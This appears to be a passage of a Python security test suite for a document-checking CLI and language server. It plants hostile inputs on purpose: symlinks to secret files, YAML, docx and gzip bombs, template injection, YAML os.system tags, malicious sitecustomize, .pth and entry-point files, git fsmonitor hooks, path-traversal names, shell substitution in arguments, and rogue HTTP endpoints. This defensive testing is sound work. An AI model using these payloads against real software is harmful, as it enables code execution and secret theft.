@case("template-folder-links-and-bombs", T, [["checker", "templates", "validate", "./tpl", "./tpl2", "./tpl3"], ["checker", "templates", "list"], ["checker", "templates", "show", "./tpl"]])
def _(folder, outside):
    (folder / "tpl").mkdir()
    for n in ("template.yaml", "template.md", "template.docx", "tpl.yaml"):
        link(folder / "tpl" / n, outside / "secret.env")
        w(folder / "tpl2" / n, yaml_bomb())
        (folder / "tpl3").mkdir(exist_ok=True)
        os.mkfifo(folder / "tpl3" / n)
    docx_bomb(folder / "tpl2/b.docx", 600)
    w(folder / CONF, f'templates = [".", "{outside}", "/proc/self"]\n')


@case("template-learn-output-outside", T, [[*LEARN[:-3], "-o", "tpl", "--data"], [*LEARN[:-3], "--name", "../../outside/evil"], [*LEARN[:-3], "-o", "tpl2", "--name", "../../outside/evil"]],
      note="-o tpl is a link to a folder outside; --name with .. is the caller's")
def _(folder, outside):
    samples(folder)
    (outside / "t").mkdir()
    link(folder / "tpl", outside / "t")


@case("template-learn-hostile-docx", T, [["checker", "templates", "learn", "a.docx", "b.docx", "-o", "t1"], ["checker", "templates", "learn", "deep.docx", "deep2.docx", "-o", "t2"], ["checker", "templates", "learn", "big1.docx", "big2.docx", "-o", "t3"]])
def _(folder, outside):
    docx_bomb(folder / "a.docx", 300)
    docx_bomb(folder / "b.docx", 300)
    for n in ("deep", "deep2"):
        docx(folder / f"{n}.docx", "<w:sdt><w:sdtContent>" * 3000 + para(n) + "</w:sdtContent></w:sdt>" * 3000)
    r = random.Random(2)
    for n in ("big1", "big2"):
        docx(folder / f"{n}.docx", "".join(para(f"項目{r.randrange(99)}: {r.randrange(9**9)}") for _ in range(8000)))


MUTATE_DATA = r'''
import json, pathlib, re
# Every scalar of the data file that `templates show --data` printed becomes the payload; also a CSV of its keys.
payload = pathlib.Path("payload.txt").read_text().rstrip("\n")
out, keys = [], []
for line in pathlib.Path("d.yaml").read_text().splitlines():
    m = re.match(r"^(\s*(?:- )?)(#\s*)?([^#:\s][^:]*):\s*([^#|>&\[{]*?)\s*(#.*)?$", line)
    if m:
        if not m[1]:
            keys.append(m[3])
        out.append(f"{m[1]}{m[3]}: {json.dumps(payload, ensure_ascii=False)}" if m[4] or m[2] else line)
    else:
        out.append(line)
pathlib.Path("d2.yaml").write_text("\n".join(out) + "\n")
import csv
with open("b.csv", "w", newline="") as f:
    c = csv.writer(f)
    c.writerow(keys)
    for i in range(3):
        c.writerow([payload] * len(keys))
pathlib.Path("key.txt").write_text(keys[0] if keys else "x")
'''


def data_case(name, payload, template="ringi", commands=None, **more):
    def build(folder, outside):
        w(folder / "md.py", MUTATE_DATA)
        w(folder / "payload.txt", payload(outside) if callable(payload) else payload)

    make = ["sh", "-c", f"checker templates show {template} --data > d.yaml && python3 md.py"]
    CASES.append(Case(name, T, build, [make, *(commands or [["checker", "new", template, "--data", "d2.yaml", "--no-model", "-o", "out.docx"], ["checker", "new", template, "--data", "d2.yaml", "--no-model", "-o", "out.md"]])], **more))


data_case("template-data-tags", lambda o: ssti(o, 0) + ssti(o, 3) + "{% for x in range(9) %}x{% endfor %}{{ 7*7*7*7 }}", must_not_contain=["2401"])
data_case("template-data-xml-and-escapes", "</w:t></w:r></w:p><w:p>&x;]]>\x1b[31m\ufffe\ud7ff<script>alert(1)</script>\u202e")
data_case("template-data-long", "あ" * 300_000 + "\n" * 3000, "design-doc")
data_case("template-batch-names-outside", "../../../../outside/pwned", commands=[["sh", "-c", "checker new ringi --batch b.csv --name \"{$(cat key.txt)}\" -o out --no-model"], ["sh", "-c", "checker new ringi --batch b.csv --name '{row.__class__.__init__.__globals__}{row:>9999999999}' -o out --no-model"]])
data_case("template-batch-names-absolute", lambda o: f"{o}/victim.txt", commands=[["sh", "-c", "checker new ringi --batch b.csv --name \"{$(cat key.txt)}\" -o out --no-model"], ["sh", "-c", "checker new ringi --batch b.csv --name \"{$(cat key.txt)}.docx\" -o out --no-model --force"]])


@case("template-data-files-odd", T, [["checker", "new", "ringi", "--data", x, "--no-model", "-o", "o.docx"] for x in ("bomb.yaml", "tags.yaml", "deep.json")])
def _(folder, outside):
    w(folder / "bomb.yaml", yaml_bomb())
    w(folder / "tags.yaml", f"件名: !!python/object/apply:os.system [\"{run_it(outside, 'data')}\"]\n金額: &a [*a]\n")
    w(folder / "deep.json", "[" * 500_000)


@case("template-data-files-odd-2", T, [["checker", "new", "ringi", "--data", x, "--no-model", "-o", "o.docx"] for x in ("fifo.yaml", "s.yaml", "n.json")])
def _(folder, outside):
    os.mkfifo(folder / "fifo.yaml")
    w(folder / "n.json", '{"件名": 1e999, "金額": ' + "9" * 100_000 + ', "日付": NaN, "\\ud800": "\\ud800", "__class__": {"__init__": 1}, "self": "x", "loop": [], "config": {}}')
    link(folder / "s.yaml", outside / "secret.env")


@case("template-new-outputs-are-links", T, [["checker", "new", "ringi", "--no-model", "-o", "out.docx"], ["checker", "new", "ringi", "--no-model", "-o", "out.md", "--force"], ["checker", "new", "ringi", "--no-model", "-o", "o3.docx"]])
def _(folder, outside):
    link(folder / "out.docx", outside / "new.docx")
    link(folder / "out.md", outside / "victim.txt")
    link(folder / "out.md.bak", outside / "bak")
    link(folder / "o3.docx.verdict.json", outside / "victim.txt")
    link(folder / "o3.verdict.json", outside / "victim.txt")


@case("template-names-traversal", T, [["checker", "new", "../../outside/secret.env", "--no-model", "-o", "o.md"], ["checker", "templates", "show", "../outside"], ["checker", "templates", "show", "\x1b[31m../../x\x00"[:-1]]])
def _(folder, outside):
    w(folder / "a.md", DOC)


# ================================================================ code in the folder

WH = "code"
CODE = [["checker", "lint", ".", "--no-model"], ["checker", "rules", "list"], ["checker", "doctor"]]


def evil_py(outside, what):
    return f"import os\nos.system({run_it(outside, what)!r})\n"


@case("code-modules-in-folder", WH, CODE)
def _(folder, outside):
    w(folder / "a.md", DOC)
    for n in ("checker", "sitecustomize", "usercustomize", "json", "re", "typing", "click", "yaml", "lxml", "docx", "pydantic", "conftest", "setup", "noxfile", "tomllib", "regex", "sudachipy", "multiprocessing"):
        w(folder / f"{n}.py", evil_py(outside, f"module-{n}"))


@case("code-packages-in-folder", WH, CODE)
def _(folder, outside):
    w(folder / "a.md", DOC)
    for n in ("checker", "checker/plugins", "checker/kinds", "checker/rules", "jinja2", "markdown_it", "encodings", "llama_cpp", "pip", "xml", "importlib"):
        w(folder / n / "__init__.py", evil_py(outside, f"package-{n}"))
    w(folder / "checker/__main__.py", evil_py(outside, "main"))


@case("code-dist-info-in-folder", WH, CODE)
def _(folder, outside):
    w(folder / "a.md", DOC)
    w(folder / "evil.py", evil_py(outside, "entry-point"))
    for d in ("evil-1.0.dist-info", "doc_format_checker-99.0.dist-info"):
        w(folder / d / "METADATA", f"Metadata-Version: 2.1\nName: {d.split('-')[0]}\nVersion: 1.0\n")
        w(folder / d / "entry_points.txt", "".join(f"[{g}]\nevil = evil:run\n" for g in ("checker.rulesets", "checker.templates", "checker.plugins", "checker.kinds", "console_scripts", "checker.readers")))
        w(folder / d / "RECORD", "")
    w(folder / "evil.egg-info/entry_points.txt", "[checker.rulesets]\nevil = evil\n")


@case("code-pth-and-venv", WH, CODE)
def _(folder, outside):
    w(folder / "a.md", DOC)
    for d in (".", "site-packages", ".venv/lib/python3.11/site-packages", "venv/lib/python3.11/site-packages"):
        w(folder / d / "evil.pth", f"import os; os.system({run_it(outside, 'pth')!r})\n")
    w(folder / "pyvenv.cfg", "home = /usr/bin\ninclude-system-site-packages = true\n")
    for n in ("python", "python3", "checker", "activate"):
        script(folder / ".venv/bin" / n, outside, "venv")
    w(folder / ".python-version", "evil\n")
    w(folder / ".envrc", run_it(outside, "envrc"))
    w(folder / ".pdbrc", f"import os; os.system({run_it(outside, 'pdbrc')!r})\n")


@case("code-rulesets-package-on-path", WH, [["checker", "rules", "list"], ["checker", "lint", ".", "--no-model"], ["checker", "rules", "show", "acme"]], env={"PYTHONPATH": "@FOLDER@/wheel"},
      note="PYTHONPATH stands for an installed wheel of rule sets: 'the code inside does not run' (docs/rules.md)")
def _(folder, outside):
    w(folder / "a.md", DOC)
    w(folder / "wheel/acme_rules/__init__.py", evil_py(outside, "wheel-init"))
    w(folder / "wheel/acme_rules/acme.yaml", ruleset("acme", "  - {id: acme.r, kind: existence, words: [適宜], message: m}\n"))
    w(folder / "wheel/acme_rules/evil.yaml", "!!python/object/apply:os.system [x]\n")
    w(folder / "wheel/acme-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n")
    w(folder / "wheel/acme-1.0.dist-info/entry_points.txt", "[checker.rulesets]\nacme = acme_rules\nb = acme_rules.sub:run\nc = os:system\nd = ../../outside\ne = \n[checker.templates]\nacme = acme_rules\n")
    w(folder / "wheel/acme-1.0.dist-info/RECORD", "acme_rules/__init__.py,,\nacme_rules/acme.yaml,,\n../../outside/secret.env,,\n")


@case("code-tool-configs", WH, [["checker", "lint", ".", "--no-model"], ["checker", "init", ".", "--pre-commit"], ["checker", "fix", "a.md", "--in-place"]])
def _(folder, outside):
    w(folder / "a.md", DOC)
    w(folder / "setup.py", evil_py(outside, "setup"))
    w(folder / "setup.cfg", "[checker]\nrules = evil\n[options.entry_points]\nconsole_scripts =\n")
    w(folder / "Makefile", f"all:\n\t{run_it(outside, 'make')}\n")
    w(folder / "sudachi.json", '{"systemDict": "../outside/secret.env", "oovProviderPlugin": [{"class": "evil.so"}]}')
    w(folder / "resources/sudachi.json", '{"systemDict": "/dev/zero"}')
    w(folder / "libevil.so", b"\x7fELF")
    w(folder / "openssl.cnf", f"openssl_conf = x\n[x]\nengines = y\n[y]\ne = z\n[z]\ndynamic_path = {folder}/libevil.so\n")
    w(folder / "dask.yaml", "distributed: {worker: {preload: evil.py}}\n")
    w(folder / "pip.conf", "[global]\nindex-url = http://127.0.0.1:9/\n")
    w(folder / "logging.conf", "[loggers]\nkeys=root\n")
    for n in ("en_US", "ja_JP"):
        w(folder / f"locale/{n}/LC_MESSAGES/checker.mo", b"\xde\x12\x04\x95" + b"\xff" * 24)
        w(folder / f"locale/{n}/LC_MESSAGES/messages.mo", b"\xde\x12\x04\x95" + b"\xff" * 24)

# ================================================================ language server

L = "lsp"
LSP = [["checker", "lsp", "--no-model"]]


def frame(obj) -> bytes:
    body = obj if isinstance(obj, bytes) else json.dumps(obj).encode()
    return b"Content-Length: %d\r\n\r\n" % len(body) + body


def req(i, method, params=None):
    return {"jsonrpc": "2.0", "id": i, "method": method, "params": params if params is not None else {}}


def note_(method, params=None):
    return {"jsonrpc": "2.0", "method": method, "params": params if params is not None else {}}


def start(folder, **more):
    uri = folder.as_uri()
    return frame(req(1, "initialize", {"processId": None, "rootUri": uri, "capabilities": {}, "workspaceFolders": [{"uri": uri, "name": "x"}], **more})) + frame(note_("initialized"))


END = frame(req(999_999, "shutdown")) + frame(note_("exit"))


def opened(uri, text=DOC, language="markdown", version=1):
    return frame(note_("textDocument/didOpen", {"textDocument": {"uri": uri, "languageId": language, "version": version, "text": text}}))


def lsp(name, data, files=None, commands=LSP, **more):
    def build(folder, outside):
        w(folder / "a.md", DOC)
        if files:
            files(folder, outside)

    CASES.append(Case(name, L, build, [list(c) for c in commands], stdin=data, **more))


def asked(uri, i=50):
    """Everything that may be asked about a document."""
    td = {"textDocument": {"uri": uri}}
    pos = {"position": {"line": 2, "character": 3}}
    rng = {"range": {"start": {"line": 0, "character": 0}, "end": {"line": 99, "character": 0}}}
    return b"".join(frame(req(i + j, m, p)) for j, (m, p) in enumerate([
        ("textDocument/codeAction", {**td, **rng, "context": {"diagnostics": []}}), ("textDocument/hover", {**td, **pos}), ("textDocument/completion", {**td, **pos}), ("textDocument/diagnostic", td), ("textDocument/formatting", {**td, "options": {"tabSize": 4, "insertSpaces": True}}),
        ("workspace/diagnostic", {"previousResultIds": []}), ("textDocument/codeLens", td), ("textDocument/documentLink", td)])) + frame(note_("textDocument/didSave", td)) + frame(note_("textDocument/didClose", td))


lsp("lsp-header-garbage", lambda f, o, p: b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + b"\r\n" * 1000 + b"Content-Length: -5\r\n\r\nContent-Length: x\r\n\r\nContent-Length: 99999999999999999999999\r\n\r\n" + start(f) + END)
lsp("lsp-length-huge-then-end", lambda f, o, p: start(f) + b"Content-Length: 9223372036854775807\r\n\r\n{}", note="memory must not be reserved for what is announced")
lsp("lsp-length-1tb", lambda f, o, p: b"Content-Length: 1099511627776\r\n\r\n" + b"x" * 1000)
lsp("lsp-header-flood", lambda f, o, p: b"X-A: " + b"a" * 60_000_000, note="a header line of 60 MB without an end")
lsp("lsp-many-headers", lambda f, o, p: b"X-A: b\r\n" * 3_000_000 + b"Content-Length: 2\r\n\r\n{}" + start(f) + END)
lsp("lsp-length-digits", lambda f, o, p: b"Content-Length: " + b"9" * 100_000 + b"\r\n\r\n{}" + b"Content-Length: 2\r\nContent-Length: 99\r\nContent-Type: application/vscode-jsonrpc; charset=../../x\r\n\r\n{}" + start(f) + END)
lsp("lsp-bodies-not-json", lambda f, o, p: frame(b"") + frame(b"{") + frame(b"\xff\xfe\0") + frame(b"[]") + frame(b"[1,2]") + frame(b"null") + frame(b"1") + frame(b'"x"') + frame(b"NaN") + frame(b'{"jsonrpc":"2.0"}') + start(f) + END)
lsp("lsp-deep-json", lambda f, o, p: frame(b"[" * 1_000_000) + frame(b'{"a":' * 300_000 + b"1" + b"}" * 300_000) + start(f) + frame(b'{"jsonrpc":"2.0","id":2,"method":"x","params":' + b"[" * 900 + b"]" * 900 + b"}") + END)
lsp("lsp-huge-numbers", lambda f, o, p: start(f) + frame(b'{"jsonrpc":"2.0","id":' + b"9" * 100_000 + b',"method":"x"}') + frame(b'{"jsonrpc":"2.0","id":1e999,"method":"shutdown"}') + END)
lsp("lsp-odd-ids-and-batches", lambda f, o, p: start(f) + b"".join(frame({"jsonrpc": "2.0", "id": i, "method": m, "params": q}) for i, m, q in ((None, "x", None), ([], "x", []), ({}, "x", {}), (True, "textDocument/hover", 5), ("\ud800", "\ud800", "\ud800"), (3, "__class__", {}), (4, "textDocument/../x", {}), (5, None, {}), (6, 7, {}), (7, "textDocument/didOpen", None), (8, "textDocument/didOpen", []), (9, "exit\n", {}), (10, "initialize", {}), (11, "$/x", {}), (12, "textDocument/codeAction", "x"), (13, "workspace/executeCommand", {"command": {"x": 1}}))) + frame(json.dumps([req(20, "shutdown"), req(21, "x")]).encode()) + frame(note_("$/cancelRequest", {"id": [[]]})) + END)
lsp("lsp-before-initialize", lambda f, o, p: opened((f / "a.md").as_uri()) + frame(req(1, "textDocument/codeAction", {})) + frame(note_("textDocument/didSave", {"textDocument": {"uri": "x"}})) + frame(req(2, "shutdown")) + start(f) + opened((f / "a.md").as_uri()) + END)
ODD_URIS = ["file:///dev/zero", "file:///proc/self/environ", "file:///dev/stdin", "file://evil.example/share/x.md", "http://127.0.0.1:9/x.md", "untitled:Untitled-1", "file:///%00.md", "file:///%ff%fe.md", "file:///x%0a%1b[31m.md", "file:" + "/x" * 20_000 + ".md", "", "::", "file://", "file:///", "file:////evil/x.md", "javascript:x", "data:,x", "file:///a.md?x#y", "file://[::1", "file:///C:/x.md", "vscode-notebook-cell:/x.md#0", "git:/x.md?{}", "\ud800.md"]
lsp("lsp-odd-uris", lambda f, o, p: start(f) + b"".join(opened(u) + asked(u, 100 + 20 * i) for i, u in enumerate(ODD_URIS)) + END, env={"A_TOKEN": SECRET})
lsp("lsp-uris-outside", lambda f, o, p: start(f) + b"".join(frame(note_("textDocument/didSave", {"textDocument": {"uri": u}})) + asked(u, 100 + 20 * i) + frame(note_("workspace/didChangeWatchedFiles", {"changes": [{"uri": u, "type": t} for t in (1, 2, 3, 99)]})) for i, u in enumerate([(o / "secret.env").as_uri(), f.as_uri() + "/../outside/secret.env", f.as_uri() + "/%2e%2e/outside/secret.env", (f / "fifo.md").as_uri(), (f / "s.md").as_uri()])) + END,
    files=lambda f, o: [os.mkfifo(f / "fifo.md"), link(f / "s.md", o / "secret.env")])
RANGES = [(-1, -1, -1, -1), (0, 0, 10**30, 10**30), (2**31, 0, 2**31, 5), (5, 5, 0, 0), (0, 99999999, 0, 0), (2, 1, 2, 2)]
lsp("lsp-change-ranges", lambda f, o, p: start(f) + opened((f / "a.md").as_uri(), "# x\n\n😀あ\ud83d週2025年8月1日(木)\r\nのの\u2028x\n") + b"".join(frame(note_("textDocument/didChange", {"textDocument": {"uri": (f / "a.md").as_uri(), "version": v}, "contentChanges": [{"range": {"start": {"line": a, "character": b}, "end": {"line": c, "character": d}}, "text": t}]})) for v, (a, b, c, d), t in [(v, r, t) for v in (1, -5, 10**30, "x", None) for r in RANGES for t in ("x", "\ud800", "")])
    + b"".join(frame(note_("textDocument/didChange", {"textDocument": {"uri": (f / "a.md").as_uri(), "version": 9}, "contentChanges": c})) for c in ([], None, [{}], [{"text": None}], "x", [{"range": None, "text": 5}], [{"range": {"start": {"line": 1.5, "character": "x"}}, "text": "x"}])) + asked((f / "a.md").as_uri()) + END)
lsp("lsp-10k-documents", lambda f, o, p: start(f) + b"".join(opened(f"{f.as_uri()}/n{i}.md", "# x\n\n2025年8月1日(木)\n") for i in range(3000)) + END, note="shutdown must be answered in time, not after 3000 documents")
lsp("lsp-10k-changes", lambda f, o, p: start(f) + opened((f / "a.md").as_uri()) + b"".join(frame(note_("textDocument/didChange", {"textDocument": {"uri": (f / "a.md").as_uri(), "version": i}, "contentChanges": [{"text": DOC * (i % 50)}]})) for i in range(5000)) + asked((f / "a.md").as_uri()) + END)
lsp("lsp-40mb-document", lambda f, o, p: start(f) + opened((f / "a.md").as_uri(), "2025年8月1日(木)。 " * 1_300_000) + asked((f / "a.md").as_uri()) + END)
lsp("lsp-hostile-text", lambda f, o, p: start(f) + opened((f / "a.md").as_uri(), "> " * 20_000 + "\n" + "[" * 50_000 + "\n---\n" + "*a_ " * 20_000) + opened((f / "b.html").as_uri(), "<div>" * 50_000, "html") + opened((f / "c.docx").as_uri(), "PK\x03\x04", "x") + asked((f / "a.md").as_uri()) + END)
lsp("lsp-code-action-crafted", lambda f, o, p: start(f) + opened((f / "a.md").as_uri(), FIXABLE) + b"".join(frame(req(30 + i, "codeAction/resolve" if i % 2 else "workspace/executeCommand", d)) for i, d in enumerate([{"command": c, "arguments": [str(o / "victim.txt"), {"uri": (o / "victim.txt").as_uri(), "text": "x"}], "title": "x", "data": {"uri": (o / "victim.txt").as_uri(), "path": "../outside/victim.txt", "cmd": "touch ran"}} for c in ("checker.fix", "checker.fixAll", "checker.ignore", "checker.suppress", "checker.check", "checker.lint", "checker.judge", "os.system", "../x") for _ in (0, 1)]))
    + frame(req(90, "textDocument/codeAction", {"textDocument": {"uri": (o / "victim.txt").as_uri()}, "range": {"start": {"line": 0, "character": 0}, "end": {"line": 9, "character": 9}}, "context": {"diagnostics": [{"range": {"start": {"line": -1, "character": 0}, "end": {"line": 10**20, "character": 0}}, "code": "../../x", "source": "checker", "message": "x", "data": {"fix": {"uri": (o / "victim.txt").as_uri(), "newText": "PWN"}, "__class__": 1}}], "only": ["source.fixAll"]}})) + END)
lsp("lsp-workspace-outside-with-endpoint", lambda f, o, p: start(o / "ws", initializationOptions={"model": "openai:x", "endpoint": {"url": f"http://127.0.0.1:{p}/v1"}, "ruleset": "../../outside/secret.env", "rules": [str(o / "secret.env")]}) + opened((o / "ws/a.md").as_uri(), JUDGED)
    + frame(note_("workspace/didChangeWorkspaceFolders", {"event": {"added": [{"uri": "file:///", "name": "x"}, {"uri": "file:///proc", "name": "y"}], "removed": [{"uri": "x"}]}})) + frame(note_("workspace/didChangeConfiguration", {"settings": {"checker": {"model": "openai:x", "endpoint": {"url": f"http://127.0.0.1:{p}/v1"}, "ruleset": str(o / "secret.env")}}})) + asked((o / "ws/a.md").as_uri()) + END,
    files=lambda f, o: w(o / "ws/a.md", JUDGED), commands=[["checker", "lsp"]], endpoint="record", note="the editor's options name a server: whether that is the user is for the documents to say")
lsp("lsp-folder-configuration-endpoint", lambda f, o, p: start(f) + opened((f / "a.md").as_uri(), JUDGED + SECRET) + asked((f / "a.md").as_uri()) + END, commands=[["checker", "lsp", "-r", "judging.yaml"]], endpoint="record", endpoint_forbidden=True,
    files=lambda f, o: [w(f / "judging.yaml", JUDGE), w(f / "a.md", JUDGED), w(f / CONF, 'model = "openai:x"\n[endpoint]\nurl = "http://127.0.0.1:@PORT@/v1"\nallow_public = true\nretries = 0\n')])
lsp("lsp-hostile-git-and-config", lambda f, o, p: start(f) + opened((f / "a.md").as_uri()) + asked((f / "a.md").as_uri()) + END,
    files=lambda f, o: [repo(f), config(f, f"[core]\n\tfsmonitor = {evil(f, o, 'lsp-git')}\n[diff]\n\texternal = {f}/evil.sh\n"), w(f / CONF, "rules = [\"/dev/zero\", \"fifo\"]\n"), os.mkfifo(f / "fifo")])
lsp("lsp-cut-in-the-middle", lambda f, o, p: start(f) + opened((f / "a.md").as_uri()) + frame(req(5, "textDocument/codeAction", {}))[:-5])
lsp("lsp-responses-nobody-asked", lambda f, o, p: start(f, capabilities={"workspace": {"configuration": True, "didChangeWatchedFiles": {"dynamicRegistration": True}, "workspaceFolders": True}, "window": {"workDoneProgress": True}, "general": {"positionEncodings": ["utf-7", "utf-32", "../x"]}}, locale="../../../x\x1b[31m", processId=-1, rootPath="\0") + b"".join(frame({"jsonrpc": "2.0", "id": i, "result": [{"ruleset": {"x": []}, "model": "openai:x"}]}) + frame({"jsonrpc": "2.0", "id": i, "error": {"code": "x", "message": "\x1b[31m"}}) for i in (0, 1, 2, "x", None)) + opened((f / "a.md").as_uri()) + asked((f / "a.md").as_uri()) + END)

# ================================================================ endpoints

EP = "endpoints"
EP_ENV = {"CHECKER_ENDPOINT__URL": "http://127.0.0.1:@PORT@/v1", "CHECKER_ENDPOINT__TIMEOUT": "3", "CHECKER_ENDPOINT__RETRIES": "1", "CHECKER_ENDPOINT__API_KEY_ENV": "MY_KEY", "MY_KEY": SECRET}
ENDPOINTS: dict[str, Callable[[socket.socket, bytes, Callable[[], bool]], None]] = {}


TURNS: dict[str, int] = {}


def next_of(name, items):
    """One after the other, so that every run answers alike."""
    TURNS[name] = TURNS.get(name, -1) + 1
    return items[TURNS[name] % len(items)]


def endpoint(name):
    def wrap(f):
        ENDPOINTS[name] = f
        return f
    return wrap


def reply(body: bytes, status: bytes = b"200 OK", head: bytes = b"", length: int | None = None, kind: bytes = b"application/json") -> bytes:
    return b"HTTP/1.1 %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n%sConnection: close\r\n\r\n" % (status, kind, len(body) if length is None else length, head) + body


def answer(content="はい", logprobs=None, **more) -> bytes:
    return json.dumps({"id": "x", "object": "chat.completion", "model": "x", "choices": [{"index": 0, "finish_reason": "stop", "text": content, "message": {"role": "assistant", "content": content}, "logprobs": logprobs}], "usage": {"prompt_tokens": 1, "completion_tokens": 1}, "data": [{"id": "x"}], **more}).encode()


def lp(token, value, top=()):
    return {"content": [{"token": token, "logprob": value, "bytes": None, "top_logprobs": [{"token": t, "logprob": v, "bytes": None} for t, v in top]}], "tokens": [token], "token_logprobs": [value], "top_logprobs": [dict(top)]}


def forever(c, piece, pause, stop):
    while not stop():
        c.sendall(piece)
        if pause:
            time.sleep(pause)


@endpoint("record")
def _(c, r, stop):
    c.sendall(reply(b"{}", b"404 Not Found"))


@endpoint("echo-authorization")
def _(c, r, stop):
    """An error that repeats the whole request, key and all."""
    c.sendall(reply(json.dumps({"error": {"message": "bad request: " + r.decode("latin-1"), "type": "x", "code": "x"}}).encode(), b"401 Unauthorized"))


@endpoint("trickled-headers")
def _(c, r, stop):
    c.sendall(b"HTTP/1.1 200 OK\r\n")
    forever(c, b"X-A: b\r\n", 0.5, stop)


@endpoint("trickled-status")
def _(c, r, stop):
    forever(c, b"H", 0.5, stop)


@endpoint("trickled-body")
def _(c, r, stop):
    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n")
    forever(c, b" ", 0.5, stop)


@endpoint("trickled-chunks")
def _(c, r, stop):
    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    forever(c, b"1\r\n \r\n", 0.5, stop)


@endpoint("endless-100-continue")
def _(c, r, stop):
    forever(c, b"HTTP/1.1 100 Continue\r\n\r\n" * 50, 0.01, stop)


@endpoint("huge-header")
def _(c, r, stop):
    c.sendall(b"HTTP/1.1 200 OK\r\nX-A: ")
    forever(c, b"a" * 65536, 0, stop)


@endpoint("many-headers")
def _(c, r, stop):
    c.sendall(b"HTTP/1.1 200 OK\r\n")
    forever(c, b"X-A: b\r\n" * 8192, 0, stop)


@endpoint("redirect-file")
def _(c, r, stop):
    c.sendall(reply(b"", b"302 Found", b"Location: file:///etc/passwd\r\n"))


@endpoint("redirect-elsewhere")
def _(c, r, stop):
    """To another name of this machine: the key and the document must not follow. A second request means they did."""
    path = r.split(b" ")[1] if r.count(b" ") > 1 else b"/"
    port = c.getsockname()[1]
    if b"/elsewhere" in path:
        c.sendall(reply(answer("followed")))
    else:
        c.sendall(reply(b"", b"307 Temporary Redirect", b"Location: http://localhost:%d/elsewhere\r\n" % port))


@endpoint("redirect-loop")
def _(c, r, stop):
    c.sendall(reply(b"", b"307 Temporary Redirect", b"Location: /v1/chat/completions\r\n"))


@endpoint("gzip-bomb")
def _(c, r, stop):
    import gzip
    raw_, crc, size = bomb(3000, b'{"choices": [', b" ", b"", sums=False)
    data = b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + raw_ + struct.pack("<II", crc, size & 0xFFFFFFFF)
    c.sendall(reply(data, head=b"Content-Encoding: gzip\r\n"))


@endpoint("invalid-json")
def _(c, r, stop):
    c.sendall(reply(b'{"choices": [{"message": {"content": "\x1b[31m\xff\xfe'))


@endpoint("deep-json")
def _(c, r, stop):
    c.sendall(reply(b"[" * 2_000_000))


@endpoint("endless-body")
def _(c, r, stop):
    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n" + b'{"choices": [')
    forever(c, b" " * 65536, 0, stop)


@endpoint("endless-chunks")
def _(c, r, stop):
    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    forever(c, b"10000\r\n" + b"x" * 65536 + b"\r\n", 0, stop)


@endpoint("endless-sse")
def _(c, r, stop):
    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n")
    forever(c, b'data: {"choices":[{"delta":{"content":"x"}}]}\n\n: ping\n\n', 0.05, stop)


@endpoint("short-length")
def _(c, r, stop):
    c.sendall(reply(answer(), length=5))


@endpoint("long-length")
def _(c, r, stop):
    c.sendall(reply(answer(), length=10**15))


@endpoint("negative-length")
def _(c, r, stop):
    c.sendall(reply(answer(), length=-1))


@endpoint("bad-chunks")
def _(c, r, stop):
    c.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffffff\r\n" + b"x" * 1000 + b"\r\n-5\r\nzz\r\n")


@endpoint("nan-logprobs")
def _(c, r, stop):
    c.sendall(reply(answer("はい", lp("はい", float("nan"), [("はい", float("nan")), ("いいえ", float("inf")), ("Yes", 1e308), ("No", -1e308)]))))


@endpoint("odd-logprobs")
def _(c, r, stop):
    c.sendall(reply(answer("1", lp("はい", "x", [("はい", 5.0), ("いいえ", 99.0), ("\ud800", -1), ("はい", 0.0), ("yes", 0.0), ("no", 0.0)]))))


@endpoint("wrong-types")
def _(c, r, stop):
    c.sendall(reply(next_of("wrong-types", [b"null", b"[]", b'""', b'{"choices": null}', b'{"choices": []}', b'{"choices": [null]}', b'{"choices": [{"message": null, "logprobs": []}]}', b'{"choices": [{"message": {"content": {"a": [1]}}, "logprobs": {"content": {"x": 1}}}]}', b'{"choices": {"0": 1}}', b'{"choices": [{"message": {"content": 1e999}, "logprobs": {"content": [null, 5, {"token": 5, "logprob": null, "top_logprobs": "x"}]}}]}'])))


@endpoint("escapes-in-answer")
def _(c, r, stop):
    c.sendall(reply(answer("\x1b]0;pwned\x07\x1b[2Jはい\x9b31m\r\n::error::pwn", lp("\x1b[31mはい", -0.01, [("\x1b[31mはい", -0.01), ("いいえ", -5.0)]), model="\x1b[31mx")))


@endpoint("escapes-in-error")
def _(c, r, stop):
    c.sendall(reply(json.dumps({"error": {"message": "\x1b]0;pwned\x07\x1b[2J\n::error::pwn " + "x" * 100_000}}).encode(), b"400 \x1b[31mBad\x9b31m", b"X-\x1b[31m: y\r\n"))


@endpoint("retry-after-forever")
def _(c, r, stop):
    c.sendall(reply(b"{}", b"429 Too Many Requests", b"Retry-After: 999999999\r\n"))


@endpoint("retry-after-odd")
def _(c, r, stop):
    c.sendall(reply(b"{}", b"503 Busy", b"Retry-After: " + next_of("retry-after", [b"-5", b"nan", b"inf", b"1e300", b"Fri, 31 Dec 9999 23:59:59 GMT", b"x" * 5000, b"9" * 5000]) + b"\r\n"))


@endpoint("not-http")
def _(c, r, stop):
    c.sendall(os.urandom(5000) + b"SSH-2.0-x\r\n")


@endpoint("reset")
def _(c, r, stop):
    c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


@endpoint("silent")
def _(c, r, stop):
    while not stop():
        time.sleep(0.1)


@endpoint("status-odd")
def _(c, r, stop):
    c.sendall(b"HTTP/9.9 99999999999999 \r\nContent-Length: 2\r\n\r\n{}")


@endpoint("huge-numbers")
def _(c, r, stop):
    c.sendall(reply(b'{"choices": [{"message": {"content": "x"}, "logprobs": {"content": [{"token": "x", "logprob": ' + b"9" * 1_000_000 + b"}]}}]}"))


@endpoint("cookie-and-charset")
def _(c, r, stop):
